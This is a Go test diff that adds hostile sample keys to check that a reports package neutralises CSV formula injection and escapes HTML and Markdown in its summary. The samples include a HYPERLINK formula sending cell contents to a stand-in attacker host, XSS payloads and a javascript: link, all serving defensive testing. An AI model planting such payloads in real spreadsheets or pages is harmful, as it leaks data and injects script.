@@ -2,6 +2,7 @@ package reports
 
 import (
 	"bytes"
+	"encoding/csv"
 	"flag"
 	"fmt"
 	"math"
@@ -9,6 +10,7 @@ import (
 	"path/filepath"
 	"reflect"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -335,6 +337,93 @@ func TestStockChartAxis(t *testing.T) {
 		}
 		if !strings.Contains(h, tc.wantLow) || (tc.wantLow == ">0<" && strings.Contains(h, ">-")) {
 			t.Errorf("%v: y-axis does not start at %s", tc.points, tc.wantLow)
+		}
+	}
+}
+
+// hostileSample is sample() with keys a spreadsheet would run as formulas
+// and a Markdown viewer would render as HTML or links.
+func hostileSample() *Report {
+	r := sample()
+	keys := []struct{ sku, loc string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1"},
+		{"-5", "@SUM(A1:A9)"},
+		{"\tTAB", "\rCR"},
+		{`<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`},
+		{"*bold*_under_`code`|pipe|~strike~", `<!-- comment --> & \escape`},
+	}
+	for i, k := range keys {
+		r.Rows[i].SKU, r.Rows[i].LocationID = k.sku, k.loc
+	}
+	r.BelowThreshold, r.StockOuts, r.TopMovers = r.Rows, r.Rows, r.Rows
+	return r
+}
+
+// TestCSVNeutralisesFormulas: a text cell that starts like a formula gets
+// a leading quote (OWASP's advice); numbers, negative ones included, stay
+// numbers, and the CSV reads back to the same cells otherwise.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	var b bytes.Buffer
+	r := hostileSample()
+	if err := WriteCSV(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][2]string{
+		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+1"},
+		{"'-5", "'@SUM(A1:A9)"},
+		{"'\tTAB", "'\rCR"},
+		{`<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`},
+		{"*bold*_under_`code`|pipe|~strike~", `<!-- comment --> & \escape`},
+	}
+	for i, w := range want {
+		rec := recs[i+1]
+		if rec[1] != w[0] || rec[2] != w[1] {
+			t.Errorf("row %d: sku %q location %q, want %q %q", i, rec[1], rec[2], w[0], w[1])
+		}
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+				t.Errorf("row %d, %s = %q starts like a formula", i, CSVColumns[j], cell)
+			}
+		}
+	}
+	// Negative numbers stay numbers.
+	sold, net := slices.Index(CSVColumns, "sold"), slices.Index(CSVColumns, "net_change")
+	for i, x := range r.Rows {
+		if got, want := recs[i+1][sold], fmt.Sprint(x.Sold); got != want {
+			t.Errorf("row %d: sold %q, want %s", i, got, want)
+		}
+		if got, want := recs[i+1][net], fmt.Sprint(x.NetChange); got != want {
+			t.Errorf("row %d: net_change %q, want %s", i, got, want)
+		}
+	}
+	if !slices.ContainsFunc(r.Rows, func(x Row) bool { return x.Sold < 0 }) {
+		t.Fatal("the sample sells nothing: no negative number is checked")
+	}
+}
+
+// TestMarkdownEscapes: no raw HTML, link or emphasis from a SKU or a
+// location reaches summary.md, and every key is there, escaped.
+func TestMarkdownEscapes(t *testing.T) {
+	var b bytes.Buffer
+	if err := WriteMarkdown(&b, hostileSample()); err != nil {
+		t.Fatal(err)
+	}
+	md := b.String()
+	for _, bad := range []string{"<img", "<!--", "[x](", "*bold*", "_under_", "`code`", "|pipe|", "~strike~", " & "} {
+		if strings.Contains(md, bad) {
+			t.Errorf("summary.md has %q raw:\n%s", bad, md)
+		}
+	}
+	for _, want := range []string{
+		"&lt;img src=x onerror=alert(1)&gt; @ \\[x\\](javascript:alert(1))",
+		"\\*bold\\*\\_under\\_\\`code\\`\\|pipe\\|\\~strike\\~ @ &lt;!-- comment --&gt; &amp; \\\\escape",
+	} {
+		if !strings.Contains(md, want) {
+			t.Errorf("summary.md lacks %q:\n%s", want, md)
 		}
 	}
 }
